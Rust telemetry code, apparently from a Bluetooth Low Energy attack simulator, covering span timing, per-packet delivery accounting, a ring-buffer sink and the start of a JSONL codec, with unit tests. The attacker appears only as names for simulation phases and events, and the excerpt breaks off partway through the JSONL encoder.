//! records, so every sink (ring, JSONL, metrics) sees them with no new
//! plumbing, and the emit discipline is identical: with no sink attached a
//! span enter/exit is a branch-and-return that never reads the clock, never
//! touches the stack and never allocates.
//!
//! Nesting is LIFO **per node**: a node's radio does one thing at a time, so
//! its spans nest strictly; spans of *different* nodes (and the node-less
//! harness spans) interleave freely on the shared stack, and exit removes
//! the matching frame wherever it sits. Self-time attribution charges a
//! closed span's total to the frame directly beneath it at exit.

use simkit::Instant;

/// Identifier of one span instance. `SpanId::DISABLED` (0) is returned by
/// enter when no sink is attached; exiting it is a no-op, so callers never
/// need to branch on whether telemetry is on.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SpanId(u32);

impl SpanId {
    /// The sentinel id handed out while telemetry is disabled.
    pub const DISABLED: SpanId = SpanId(0);

    /// Raw wire value (0 = disabled sentinel, never emitted).
    pub fn raw(self) -> u32 {
        self.0
    }

    /// Rebuilds an id from its wire value (JSONL decoding).
    pub fn from_raw(raw: u32) -> SpanId {
        SpanId(raw)
    }

    /// Whether this is the disabled sentinel.
    pub fn is_disabled(self) -> bool {
        self.0 == 0
    }
}

/// The closed span vocabulary. Like the other wire enums this is
/// deliberately finite — the JSONL codec round-trips `as_str`/`parse`
/// exactly, and the xtask R4 exhaustive-match rule makes adding a phase a
/// compile-visible change at every consumer.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SpanKind {
    /// Trial phase: establishing the victim connection and synchronising
    /// the attacker's sniffer.
    TrialSync,
    /// Trial phase: the main attack loop (the attacker follows the
    /// connection and fires injection attempts).
    TrialFollow,
    /// Trial phase: end-of-trial verification (effect observation and
    /// metric collection).
    TrialVerify,
    /// Attacker: scanning data channels for a connection to follow.
    AttackerScan,
    /// Attacker: passively following a synchronised connection.
    AttackerFollow,
    /// Attacker: one injection window, from the transmitted forged frame to
    /// the eq. 7 verdict on it.
    AttackerInject,
    /// PHY: one transmission occupying a channel (detail = channel index).
    ChannelAirtime,
    /// Link Layer: processing one LL control PDU (detail = opcode).
    LlProcedure,
}

/// Metric names under which a kind's aggregates land in the
/// [`crate::MetricsRegistry`] (see [`SpanKind::metric_names`]).
#[derive(Debug, Clone, Copy)]
pub struct SpanMetricNames {
    /// Closed-span count.
    pub count: &'static str,
    /// Total simulation nanoseconds.
    pub sim_ns: &'static str,
    /// Simulation nanoseconds net of child spans.
    pub self_sim_ns: &'static str,
    /// Total wall-clock nanoseconds (0 without an injected clock).
    pub wall_ns: &'static str,
    /// Wall-clock nanoseconds net of child spans.
    pub self_wall_ns: &'static str,
}

impl SpanKind {
    /// Every kind, in a fixed order ([`SpanKind::index`] indexes into it).
    pub const ALL: [SpanKind; 8] = [
        SpanKind::TrialSync,
        SpanKind::TrialFollow,
        SpanKind::TrialVerify,
        SpanKind::AttackerScan,
        SpanKind::AttackerFollow,
        SpanKind::AttackerInject,
        SpanKind::ChannelAirtime,
        SpanKind::LlProcedure,
    ];

    /// Position in [`SpanKind::ALL`] (used for fixed-size tally arrays).
    pub fn index(self) -> usize {
        match self {
            SpanKind::TrialSync => 0,
            SpanKind::TrialFollow => 1,
            SpanKind::TrialVerify => 2,
            SpanKind::AttackerScan => 3,
            SpanKind::AttackerFollow => 4,
            SpanKind::AttackerInject => 5,
            SpanKind::ChannelAirtime => 6,
            SpanKind::LlProcedure => 7,
        }
    }

    /// Stable wire name, used by the JSONL codec.
    pub fn as_str(self) -> &'static str {
        match self {
            SpanKind::TrialSync => "trial-sync",
            SpanKind::TrialFollow => "trial-follow",
            SpanKind::TrialVerify => "trial-verify",
            SpanKind::AttackerScan => "attacker-scan",
            SpanKind::AttackerFollow => "attacker-follow",
            SpanKind::AttackerInject => "attacker-inject",
            SpanKind::ChannelAirtime => "channel-airtime",
            SpanKind::LlProcedure => "ll-procedure",
        }
    }

    /// Inverse of [`SpanKind::as_str`].
    pub fn parse(s: &str) -> Option<Self> {
        match s {
            "trial-sync" => Some(SpanKind::TrialSync),
            "trial-follow" => Some(SpanKind::TrialFollow),
            "trial-verify" => Some(SpanKind::TrialVerify),
            "attacker-scan" => Some(SpanKind::AttackerScan),
            "attacker-follow" => Some(SpanKind::AttackerFollow),
            "attacker-inject" => Some(SpanKind::AttackerInject),
            "channel-airtime" => Some(SpanKind::ChannelAirtime),
            "ll-procedure" => Some(SpanKind::LlProcedure),
            _ => None,
        }
    }

    /// The registry metric names this kind's closed spans aggregate under.
    pub fn metric_names(self) -> SpanMetricNames {
        macro_rules! names {
            ($base:literal) => {
                SpanMetricNames {
                    count: concat!("span.", $base, ".count"),
                    sim_ns: concat!("span.", $base, ".sim_ns"),
                    self_sim_ns: concat!("span.", $base, ".self_sim_ns"),
                    wall_ns: concat!("span.", $base, ".wall_ns"),
                    self_wall_ns: concat!("span.", $base, ".self_wall_ns"),
                }
            };
        }
        match self {
            SpanKind::TrialSync => names!("trial_sync"),
            SpanKind::TrialFollow => names!("trial_follow"),
            SpanKind::TrialVerify => names!("trial_verify"),
            SpanKind::AttackerScan => names!("attacker_scan"),
            SpanKind::AttackerFollow => names!("attacker_follow"),
            SpanKind::AttackerInject => names!("attacker_inject"),
            SpanKind::ChannelAirtime => names!("channel_airtime"),
            SpanKind::LlProcedure => names!("ll_procedure"),
        }
    }
}

/// One open span on the tracker stack.
#[derive(Debug, Clone)]
struct Frame {
    id: u32,
    kind: SpanKind,
    detail: u32,
    node: Option<u32>,
    enter_sim: Instant,
    enter_wall_ns: u64,
    child_sim_ns: u64,
    child_wall_ns: u64,
}

/// A closed span, ready to be emitted as a
/// [`crate::TelemetryEvent::SpanExit`].
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct ClosedSpan {
    /// The span's instance id.
    pub id: SpanId,
    /// Simulation time at which the span closed.
    pub exit_at: Instant,
    /// What the span measured.
    pub kind: SpanKind,
    /// Kind-specific detail scalar (channel index, LL opcode, 0).
    pub detail: u32,
    /// The node the span was attributed to at enter.
    pub node: Option<u32>,
    /// Total simulation nanoseconds between enter and exit.
    pub sim_ns: u64,
    /// Total wall-clock nanoseconds (0 without an injected clock).
    pub wall_ns: u64,
    /// Simulation nanoseconds net of directly nested spans.
    pub self_sim_ns: u64,
    /// Wall-clock nanoseconds net of directly nested spans.
    pub self_wall_ns: u64,
}

/// The span bookkeeping: an id counter, the open-frame stack and the
/// injected wall clock. Owned by [`crate::Telemetry`]; the dispatcher is
/// responsible for the disabled-path branch *before* touching the tracker.
#[derive(Debug, Default)]
pub(crate) struct SpanTracker {
    next_id: u32,
    stack: Vec<Frame>,
    clock: Option<fn() -> u64>,
}

impl SpanTracker {
    /// Installs the wall clock (monotonic nanoseconds). Without one, every
    /// wall duration reads 0 — sim-time attribution still works.
    pub(crate) fn set_clock(&mut self, clock: fn() -> u64) {
        self.clock = Some(clock);
    }

    fn wall_now(&self) -> u64 {
        match self.clock {
            Some(clock) => clock(),
            None => 0,
        }
    }

    /// Opens a span and returns its id (never the disabled sentinel).
    pub(crate) fn enter(
        &mut self,
        at: Instant,
        node: Option<u32>,
        kind: SpanKind,
        detail: u32,
    ) -> SpanId {
        self.next_id = self.next_id.wrapping_add(1);
        if self.next_id == 0 {
            self.next_id = 1;
        }
        let id = self.next_id;
        self.stack.push(Frame {
            id,
            kind,
            detail,
            node,
            enter_sim: at,
            enter_wall_ns: self.wall_now(),
            child_sim_ns: 0,
            child_wall_ns: 0,
        });
        SpanId(id)
    }

    /// Closes the span with the given id, wherever it sits on the stack
    /// (LIFO per node; frames of other nodes may sit above it). Returns
    /// `None` for an unknown id — e.g. one already closed by
    /// [`SpanTracker::close_all`].
    pub(crate) fn exit(&mut self, at: Instant, id: SpanId) -> Option<ClosedSpan> {
        if id.is_disabled() {
            return None;
        }
        let idx = self.stack.iter().rposition(|f| f.id == id.0)?;
        let frame = self.stack.remove(idx);
        Some(self.close(at, frame, idx))
    }

    /// Closes every open span, topmost first (end-of-run balancing: sinks
    /// always see an exit for every enter).
    pub(crate) fn close_all(&mut self, at: Instant) -> Vec<ClosedSpan> {
        let mut closed = Vec::with_capacity(self.stack.len());
        while let Some(frame) = self.stack.pop() {
            let idx = self.stack.len();
            closed.push(self.close(at, frame, idx));
        }
        closed
    }

    /// Number of currently open spans.
    pub(crate) fn open(&self) -> usize {
        self.stack.len()
    }

    fn close(&mut self, at: Instant, frame: Frame, idx: usize) -> ClosedSpan {
        let wall_now = self.wall_now();
        let sim_ns = at.as_nanos().saturating_sub(frame.enter_sim.as_nanos());
        let wall_ns = wall_now.saturating_sub(frame.enter_wall_ns);
        // Charge this span's total to the frame directly beneath its old
        // position, so that frame's eventual self-time nets it out.
        if idx > 0 {
            if let Some(parent) = self.stack.get_mut(idx - 1) {
                parent.child_sim_ns = parent.child_sim_ns.saturating_add(sim_ns);
                parent.child_wall_ns = parent.child_wall_ns.saturating_add(wall_ns);
            }
        }
        ClosedSpan {
            id: SpanId(frame.id),
            exit_at: at,
            kind: frame.kind,
            detail: frame.detail,
            node: frame.node,
            sim_ns,
            wall_ns,
            self_sim_ns: sim_ns.saturating_sub(frame.child_sim_ns),
            self_wall_ns: wall_ns.saturating_sub(frame.child_wall_ns),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn at(us: u64) -> Instant {
        Instant::from_micros(us)
    }

    #[test]
    fn wire_names_round_trip() {
        for kind in SpanKind::ALL {
            assert_eq!(SpanKind::parse(kind.as_str()), Some(kind));
        }
        assert_eq!(SpanKind::parse("nonsense"), None);
    }

    #[test]
    fn kind_indices_match_all_order() {
        for (i, kind) in SpanKind::ALL.into_iter().enumerate() {
            assert_eq!(kind.index(), i);
        }
    }

    #[test]
    fn metric_names_are_kind_scoped_and_distinct() {
        let mut seen = std::collections::BTreeSet::new();
        for kind in SpanKind::ALL {
            let names = kind.metric_names();
            for name in [
                names.count,
                names.sim_ns,
                names.self_sim_ns,
                names.wall_ns,
                names.self_wall_ns,
            ] {
                assert!(name.starts_with("span."), "{name}");
                assert!(seen.insert(name), "duplicate metric name {name}");
            }
        }
    }

    #[test]
    fn nested_spans_attribute_self_time() {
        let mut t = SpanTracker::default();
        let outer = t.enter(at(0), None, SpanKind::TrialSync, 0);
        let inner = t.enter(at(10), Some(1), SpanKind::ChannelAirtime, 7);
        let inner_closed = t.exit(at(40), inner).expect("inner closes");
        assert_eq!(inner_closed.sim_ns, 30_000);
        assert_eq!(inner_closed.self_sim_ns, 30_000);
        assert_eq!(inner_closed.detail, 7);
        assert_eq!(inner_closed.node, Some(1));
        let outer_closed = t.exit(at(100), outer).expect("outer closes");
        assert_eq!(outer_closed.sim_ns, 100_000);
        assert_eq!(outer_closed.self_sim_ns, 70_000, "child time netted out");
        assert_eq!(t.open(), 0);
    }

    #[test]
    fn cross_node_interleaving_exits_out_of_order() {
        // Two nodes' airtime spans overlap: A enters first, exits first,
        // while B is still open above it on the shared stack.
        let mut t = SpanTracker::default();
        let a = t.enter(at(0), Some(0), SpanKind::ChannelAirtime, 1);
        let b = t.enter(at(5), Some(1), SpanKind::ChannelAirtime, 2);
        let a_closed = t.exit(at(20), a).expect("a closes from mid-stack");
        assert_eq!(a_closed.sim_ns, 20_000);
        let b_closed = t.exit(at(30), b).expect("b closes");
        assert_eq!(b_closed.sim_ns, 25_000);
        // A's total was charged to nothing (it had no frame beneath it);
        // B's self time is its own full duration.
        assert_eq!(b_closed.self_sim_ns, 25_000);
    }

    #[test]
    fn wall_clock_is_injected_not_ambient() {
        static TICKS: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(0);
        fn fake_clock() -> u64 {
            TICKS.fetch_add(100, std::sync::atomic::Ordering::Relaxed)
        }
        let mut t = SpanTracker::default();
        // No clock: wall durations are 0.
        let s = t.enter(at(0), None, SpanKind::TrialSync, 0);
        let closed = t.exit(at(50), s).expect("closes");
        assert_eq!(closed.wall_ns, 0);
        // Injected clock: monotone fake readings produce real deltas.
        t.set_clock(fake_clock);
        let s = t.enter(at(50), None, SpanKind::TrialFollow, 0);
        let closed = t.exit(at(90), s).expect("closes");
        assert_eq!(closed.wall_ns, 100, "one 100-tick step between reads");
        assert_eq!(closed.sim_ns, 40_000);
    }

    #[test]
    fn unknown_and_disabled_ids_are_no_ops() {
        let mut t = SpanTracker::default();
        assert_eq!(t.exit(at(1), SpanId::DISABLED), None);
        assert_eq!(t.exit(at(1), SpanId::from_raw(42)), None);
        let s = t.enter(at(0), None, SpanKind::TrialSync, 0);
        assert!(t.exit(at(1), s).is_some());
        assert_eq!(t.exit(at(2), s), None, "double exit is rejected");
    }

    #[test]
    fn close_all_drains_topmost_first() {
        let mut t = SpanTracker::default();
        let a = t.enter(at(0), None, SpanKind::TrialSync, 0);
        let b = t.enter(at(10), Some(2), SpanKind::AttackerScan, 0);
        let closed = t.close_all(at(100));
        assert_eq!(closed.len(), 2);
        assert_eq!(closed.first().map(|c| c.id), Some(b));
        assert_eq!(closed.get(1).map(|c| c.id), Some(a));
        // The outer span still nets out the inner one's time.
        assert_eq!(closed.get(1).map(|c| c.self_sim_ns), Some(10_000));
        assert_eq!(t.open(), 0);
    }
}
