//! Bounded per-packet delivery accounting for the sharded radio medium.
//!
//! Dense-band worlds (exp6) ask a question the event stream answers only
//! implicitly: for each transmitted frame, *how many* receivers were
//! scheduled, how many were culled as unreachable, how many actually locked
//! on, and how many completed reception. The [`DeliveryTracker`] keeps this
//! per-packet ledger the way mcsim-style network simulators do — a bounded
//! map of in-flight packets with old entries evicted in arrival order —
//! plus monotone run totals that survive eviction.
//!
//! The tracker is pure observation: the medium updates it outside every RNG
//! draw and event-schedule decision, so enabling it can never perturb a
//! simulation. All state is `BTreeMap`-backed (determinism rule R7) and its
//! snapshots are pure functions of the simulation history.

use std::collections::BTreeMap;

/// Per-packet delivery ledger entry: one transmitted frame's fan-out.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct PacketDelivery {
    /// Channel the frame was transmitted on (0–39).
    pub channel: u8,
    /// `RxStart` events the medium scheduled for this frame.
    pub scheduled: u32,
    /// Receivers skipped by the reachability cull (mean received power
    /// below the sensitivity floor minus the cull headroom).
    pub culled: u32,
    /// Receivers the scheduler did not visit because they were not
    /// listening on the frame's channel (sharded mode only; always 0 under
    /// full broadcast).
    pub suppressed: u32,
    /// Receivers that locked onto the frame's preamble (times heard).
    pub heard: u32,
    /// Receivers that completed reception and were handed the frame.
    pub delivered: u32,
}

/// Monotone run totals: survive per-packet eviction.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct DeliveryTotals {
    /// Frames transmitted.
    pub tx_frames: u64,
    /// `RxStart` events scheduled across all frames.
    pub scheduled_rx_starts: u64,
    /// Receivers skipped by the reachability cull.
    pub culled_unreachable: u64,
    /// Receivers skipped because they were not listening on the channel.
    pub suppressed_not_listening: u64,
    /// Frame receptions that locked (preamble heard).
    pub frames_heard: u64,
    /// Frame receptions completed and delivered to a listener.
    pub frames_delivered: u64,
    /// Per-packet ledger entries evicted by the capacity bound.
    pub evicted_packets: u64,
}

/// Bounded per-packet delivery tracker (see the module docs).
///
/// Capacity bounds only the *per-packet* ledger; the [`DeliveryTotals`] are
/// unconditional. Eviction is oldest-first by transmission id, which equals
/// transmission start order.
#[derive(Debug, Clone)]
pub struct DeliveryTracker {
    capacity: usize,
    packets: BTreeMap<u64, PacketDelivery>,
    totals: DeliveryTotals,
}

impl DeliveryTracker {
    /// A tracker retaining per-packet entries for at most `capacity` recent
    /// frames (minimum 1).
    pub fn new(capacity: usize) -> Self {
        DeliveryTracker {
            capacity: capacity.max(1),
            packets: BTreeMap::new(),
            totals: DeliveryTotals::default(),
        }
    }

    /// Records a transmitted frame and its scheduling fan-out, evicting the
    /// oldest ledger entries past the capacity bound.
    pub fn on_tx(&mut self, tx_id: u64, channel: u8, scheduled: u32, culled: u32, suppressed: u32) {
        self.totals.tx_frames += 1;
        self.totals.scheduled_rx_starts += u64::from(scheduled);
        self.totals.culled_unreachable += u64::from(culled);
        self.totals.suppressed_not_listening += u64::from(suppressed);
        self.packets.insert(
            tx_id,
            PacketDelivery {
                channel,
                scheduled,
                culled,
                suppressed,
                heard: 0,
                delivered: 0,
            },
        );
        while self.packets.len() > self.capacity {
            self.packets.pop_first();
            self.totals.evicted_packets += 1;
        }
    }

    /// Records one additional late-scheduled `RxStart` for an in-flight
    /// frame (a receiver that opened on the channel after `TxStart`).
    pub fn on_late_scheduled(&mut self, tx_id: u64) {
        self.totals.scheduled_rx_starts += 1;
        if let Some(p) = self.packets.get_mut(&tx_id) {
            p.scheduled = p.scheduled.saturating_add(1);
        }
    }

    /// Records a receiver locking onto the frame's preamble.
    pub fn on_heard(&mut self, tx_id: u64) {
        self.totals.frames_heard += 1;
        if let Some(p) = self.packets.get_mut(&tx_id) {
            p.heard = p.heard.saturating_add(1);
        }
    }

    /// Records a completed reception delivered to a listener.
    pub fn on_delivered(&mut self, tx_id: u64) {
        self.totals.frames_delivered += 1;
        if let Some(p) = self.packets.get_mut(&tx_id) {
            p.delivered = p.delivered.saturating_add(1);
        }
    }

    /// The monotone run totals.
    pub fn totals(&self) -> DeliveryTotals {
        self.totals
    }

    /// The retained ledger entry for a frame, if not yet evicted.
    pub fn packet(&self, tx_id: u64) -> Option<PacketDelivery> {
        self.packets.get(&tx_id).copied()
    }

    /// Retained ledger entries, oldest first.
    pub fn packets(&self) -> impl Iterator<Item = (u64, PacketDelivery)> + '_ {
        self.packets.iter().map(|(&id, &p)| (id, p))
    }

    /// Number of retained ledger entries.
    pub fn len(&self) -> usize {
        self.packets.len()
    }

    /// Whether the ledger is empty.
    pub fn is_empty(&self) -> bool {
        self.packets.is_empty()
    }

    /// The retention capacity this tracker was built with.
    pub fn capacity(&self) -> usize {
        self.capacity
    }

    /// Mean scheduled `RxStart` events per transmitted frame over the whole
    /// run (0 when nothing was transmitted) — the quantity the channel
    /// sharding optimisation reduces.
    pub fn mean_scheduled_per_frame(&self) -> f64 {
        if self.totals.tx_frames == 0 {
            0.0
        } else {
            self.totals.scheduled_rx_starts as f64 / self.totals.tx_frames as f64
        }
    }

    /// Mean completed deliveries per transmitted frame (per-frame reach).
    pub fn mean_reach(&self) -> f64 {
        if self.totals.tx_frames == 0 {
            0.0
        } else {
            self.totals.frames_delivered as f64 / self.totals.tx_frames as f64
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tracks_per_packet_counts() {
        let mut t = DeliveryTracker::new(8);
        t.on_tx(1, 5, 3, 1, 10);
        t.on_heard(1);
        t.on_heard(1);
        t.on_delivered(1);
        let p = t.packet(1).expect("retained");
        assert_eq!(p.channel, 5);
        assert_eq!(p.scheduled, 3);
        assert_eq!(p.culled, 1);
        assert_eq!(p.suppressed, 10);
        assert_eq!(p.heard, 2);
        assert_eq!(p.delivered, 1);
        assert_eq!(t.totals().tx_frames, 1);
        assert_eq!(t.totals().scheduled_rx_starts, 3);
        assert_eq!(t.totals().frames_heard, 2);
        assert_eq!(t.totals().frames_delivered, 1);
    }

    #[test]
    fn evicts_oldest_past_capacity_but_keeps_totals() {
        let mut t = DeliveryTracker::new(2);
        for id in 0..5u64 {
            t.on_tx(id, 0, 1, 0, 0);
        }
        assert_eq!(t.len(), 2);
        assert!(t.packet(0).is_none(), "oldest evicted");
        assert!(t.packet(4).is_some(), "newest retained");
        assert_eq!(t.totals().tx_frames, 5);
        assert_eq!(t.totals().evicted_packets, 3);
        // Updates for evicted packets still land in the totals.
        t.on_heard(0);
        assert_eq!(t.totals().frames_heard, 1);
    }

    #[test]
    fn late_scheduling_joins_the_ledger() {
        let mut t = DeliveryTracker::new(4);
        t.on_tx(7, 12, 2, 0, 5);
        t.on_late_scheduled(7);
        assert_eq!(t.packet(7).expect("retained").scheduled, 3);
        assert_eq!(t.totals().scheduled_rx_starts, 3);
    }

    #[test]
    fn rates_are_zero_on_an_empty_run() {
        let t = DeliveryTracker::new(4);
        assert_eq!(t.mean_scheduled_per_frame(), 0.0);
        assert_eq!(t.mean_reach(), 0.0);
        assert!(t.is_empty());
        assert_eq!(t.capacity(), 4);
    }

    #[test]
    fn mean_rates() {
        let mut t = DeliveryTracker::new(8);
        t.on_tx(0, 0, 4, 0, 0);
        t.on_tx(1, 0, 2, 0, 0);
        t.on_delivered(0);
        t.on_delivered(0);
        t.on_delivered(1);
        assert_eq!(t.mean_scheduled_per_frame(), 3.0);
        assert_eq!(t.mean_reach(), 1.5);
    }

    #[test]
    fn capacity_is_clamped_to_one() {
        let mut t = DeliveryTracker::new(0);
        t.on_tx(0, 0, 1, 0, 0);
        t.on_tx(1, 0, 1, 0, 0);
        assert_eq!(t.len(), 1);
        assert_eq!(t.totals().evicted_packets, 1);
    }
}
