//! Bounded in-memory ring buffer sink, for test assertions and interactive
//! debugging.

use std::collections::VecDeque;
use std::sync::{Arc, Mutex, MutexGuard, PoisonError};

use crate::event::TelemetryEvent;
use crate::sink::{TelemetryRecord, TelemetrySink};

/// Shared handle to a [`RingBuffer`] (the simulation owns the sink; tests
/// keep the handle). Thread-safe so that a world carrying the sink stays
/// [`Send`].
#[derive(Debug, Clone)]
pub struct SharedRing(Arc<Mutex<RingBuffer>>);

impl SharedRing {
    /// Locks the ring for reading or writing. Lock poisoning is recovered
    /// (`into_inner`): the ring is observation-only state, and the worst a
    /// panicking writer leaves behind is one missing record.
    pub fn lock(&self) -> MutexGuard<'_, RingBuffer> {
        self.0.lock().unwrap_or_else(PoisonError::into_inner)
    }
}

/// A bounded FIFO of the most recent telemetry records.
#[derive(Debug)]
pub struct RingBuffer {
    records: VecDeque<TelemetryRecord>,
    capacity: usize,
    evicted: u64,
}

impl RingBuffer {
    /// Creates an empty ring holding at most `capacity` records (capacity 0
    /// is clamped to 1 so the ring always retains the latest record).
    pub fn new(capacity: usize) -> Self {
        RingBuffer {
            records: VecDeque::new(),
            capacity: capacity.max(1),
            evicted: 0,
        }
    }

    /// Appends a record, evicting the oldest when full.
    pub fn push(&mut self, record: TelemetryRecord) {
        if self.records.len() == self.capacity {
            self.records.pop_front();
            self.evicted = self.evicted.saturating_add(1);
        }
        self.records.push_back(record);
    }

    /// Number of records currently held.
    pub fn len(&self) -> usize {
        self.records.len()
    }

    /// Whether the ring is empty.
    pub fn is_empty(&self) -> bool {
        self.records.is_empty()
    }

    /// How many records have been evicted to make room.
    pub fn evicted(&self) -> u64 {
        self.evicted
    }

    /// Iterates oldest → newest.
    pub fn iter(&self) -> impl Iterator<Item = &TelemetryRecord> {
        self.records.iter()
    }

    /// Counts records whose event matches a predicate.
    pub fn count_events(&self, mut pred: impl FnMut(&TelemetryEvent) -> bool) -> usize {
        self.records.iter().filter(|r| pred(&r.event)).count()
    }

    /// Index of the first record (oldest first) matching a predicate.
    pub fn position(&self, pred: impl FnMut(&TelemetryRecord) -> bool) -> Option<usize> {
        self.records.iter().position(pred)
    }

    /// Drops all records (the eviction counter is kept).
    pub fn clear(&mut self) {
        self.records.clear();
    }
}

/// [`TelemetrySink`] front-end for a shared [`RingBuffer`].
///
/// # Example
///
/// ```
/// use ble_telemetry::{RingBufferSink, TelemetryEvent, TelemetryRecord, TelemetrySink};
/// use simkit::Instant;
///
/// let mut sink = RingBufferSink::new(2);
/// let ring = sink.handle();
/// for i in 0..3 {
///     sink.emit(&TelemetryRecord {
///         at: Instant::from_micros(i),
///         node: None,
///         event: TelemetryEvent::TxEnd,
///     });
/// }
/// assert_eq!(ring.lock().len(), 2);
/// assert_eq!(ring.lock().evicted(), 1);
/// ```
#[derive(Debug)]
pub struct RingBufferSink {
    buffer: SharedRing,
}

impl RingBufferSink {
    /// Creates a sink backed by a fresh ring of the given capacity.
    pub fn new(capacity: usize) -> Self {
        RingBufferSink {
            buffer: SharedRing(Arc::new(Mutex::new(RingBuffer::new(capacity)))),
        }
    }

    /// A shared handle onto the underlying ring.
    pub fn handle(&self) -> SharedRing {
        self.buffer.clone()
    }
}

impl TelemetrySink for RingBufferSink {
    fn emit(&mut self, record: &TelemetryRecord) {
        self.buffer.lock().push(record.clone());
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use simkit::Instant;

    fn rec(us: u64, event: TelemetryEvent) -> TelemetryRecord {
        TelemetryRecord {
            at: Instant::from_micros(us),
            node: Some(0),
            event,
        }
    }

    #[test]
    fn eviction_keeps_the_newest_records() {
        let mut ring = RingBuffer::new(3);
        for i in 0..5u64 {
            ring.push(rec(i, TelemetryEvent::RxLock { channel: 0 }));
        }
        assert_eq!(ring.len(), 3);
        assert_eq!(ring.evicted(), 2);
        let times: Vec<u64> = ring.iter().map(|r| r.at.as_nanos()).collect();
        assert_eq!(times, vec![2_000, 3_000, 4_000]);
    }

    #[test]
    fn zero_capacity_is_clamped_to_one() {
        let mut ring = RingBuffer::new(0);
        ring.push(rec(1, TelemetryEvent::TxEnd));
        ring.push(rec(2, TelemetryEvent::TxEnd));
        assert_eq!(ring.len(), 1);
        assert_eq!(ring.evicted(), 1);
    }

    #[test]
    fn predicates_and_positions() {
        let mut ring = RingBuffer::new(10);
        ring.push(rec(1, TelemetryEvent::RxLock { channel: 1 }));
        ring.push(rec(2, TelemetryEvent::CrcFail { channel: 1 }));
        ring.push(rec(3, TelemetryEvent::RxLock { channel: 2 }));
        assert_eq!(
            ring.count_events(|e| matches!(e, TelemetryEvent::RxLock { .. })),
            2
        );
        assert_eq!(
            ring.position(|r| matches!(r.event, TelemetryEvent::CrcFail { .. })),
            Some(1)
        );
        assert_eq!(
            ring.position(|r| matches!(r.event, TelemetryEvent::TxEnd)),
            None
        );
        ring.clear();
        assert!(ring.is_empty());
        assert_eq!(ring.evicted(), 0);
    }
}
