//! JSONL (one JSON object per line) sink and codec.
//!
//! The workspace's vendored `serde` is a compile-only shim, so the codec
//! here is hand-rolled and deliberately flat: every record encodes to a
//! single-level JSON object with scalar fields. Times are integer
//! nanoseconds (exact round-trip); floating-point fields use Rust's
//! shortest-round-trip `Display`, so [`parse_line`] is an exact inverse of
//! [`to_line`] for every event the stack emits.

use std::fmt::Write as _;
use std::fs;
use std::io::{self, Write};
use std::iter::Peekable;
use std::path::Path;
use std::str::Chars;

use simkit::{Duration, Instant};

use crate::event::{AlertKind, FaultKind, LinkRole, LossReason, TelemetryEvent, Verdict};
use crate::sink::{TelemetryRecord, TelemetrySink};
use crate::span::SpanKind;

// ---------------------------------------------------------------------
// encoding
// ---------------------------------------------------------------------

fn push_escaped(out: &mut String, s: &str) {
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if u32::from(c) < 0x20 => {
                let _ = write!(out, "\\u{:04x}", u32::from(c));
            }
            c => out.push(c),
        }
    }
}

fn push_str_field(out: &mut String, key: &str, value: &str) {
    let _ = write!(out, ",\"{key}\":\"");
    push_escaped(out, value);
    out.push('"');
}

/// Encodes one record as a single JSON line (no trailing newline).
pub fn to_line(record: &TelemetryRecord) -> String {
    let mut s = String::with_capacity(96);
    let _ = write!(s, "{{\"t_ns\":{}", record.at.as_nanos());
    if let Some(node) = record.node {
        let _ = write!(s, ",\"node\":{node}");
    }
    let _ = write!(s, ",\"kind\":\"{}\"", record.event.tag());
    match &record.event {
        TelemetryEvent::NodeAdded { label } => push_str_field(&mut s, "label", label),
        TelemetryEvent::TxStart {
            channel,
            access_address,
            pdu_len,
            end,
        } => {
            let _ = write!(
                s,
                ",\"ch\":{channel},\"aa\":{access_address},\"len\":{pdu_len},\"end_ns\":{}",
                end.as_nanos()
            );
        }
        TelemetryEvent::TxEnd => {}
        TelemetryEvent::RxLock { channel } | TelemetryEvent::Relock { channel } => {
            let _ = write!(s, ",\"ch\":{channel}");
        }
        TelemetryEvent::RxEnd {
            channel,
            access_address,
            crc_ok,
            interferers,
        } => {
            let _ = write!(
                s,
                ",\"ch\":{channel},\"aa\":{access_address},\"crc_ok\":{crc_ok},\"interferers\":{interferers}"
            );
        }
        TelemetryEvent::Collision {
            channel,
            interferers,
        } => {
            let _ = write!(s, ",\"ch\":{channel},\"interferers\":{interferers}");
        }
        TelemetryEvent::InterferenceSpill { channel } => {
            let _ = write!(s, ",\"ch\":{channel}");
        }
        TelemetryEvent::Anchor { role, channel, at } => {
            let _ = write!(
                s,
                ",\"role\":\"{}\",\"ch\":{channel},\"at_ns\":{}",
                role.as_str(),
                at.as_nanos()
            );
        }
        TelemetryEvent::WindowOpen {
            channel,
            widening,
            deadline,
        } => {
            let _ = write!(
                s,
                ",\"ch\":{channel},\"widening_ns\":{},\"deadline_ns\":{}",
                widening.as_nanos(),
                deadline.as_nanos()
            );
        }
        TelemetryEvent::Hop {
            channel,
            event_counter,
        } => {
            let _ = write!(s, ",\"ch\":{channel},\"ev\":{event_counter}");
        }
        TelemetryEvent::SnNesn { role, sn, nesn } => {
            let _ = write!(
                s,
                ",\"role\":\"{}\",\"sn\":{sn},\"nesn\":{nesn}",
                role.as_str()
            );
        }
        TelemetryEvent::CrcFail { channel } => {
            let _ = write!(s, ",\"ch\":{channel}");
        }
        TelemetryEvent::LlControl { opcode } => {
            let _ = write!(s, ",\"opcode\":{opcode}");
        }
        TelemetryEvent::ConnectionEstablished {
            access_address,
            interval,
        } => {
            let _ = write!(
                s,
                ",\"aa\":{access_address},\"interval_ns\":{}",
                interval.as_nanos()
            );
        }
        TelemetryEvent::ConnectionClosed { reason } => {
            let _ = write!(s, ",\"reason\":{reason}");
        }
        TelemetryEvent::SnifferSync { access_address } => {
            let _ = write!(s, ",\"aa\":{access_address}");
        }
        TelemetryEvent::SnifferLost { reason } => {
            let _ = write!(s, ",\"reason\":\"{}\"", reason.as_str());
        }
        TelemetryEvent::InjectionAttempt { channel, lead } => {
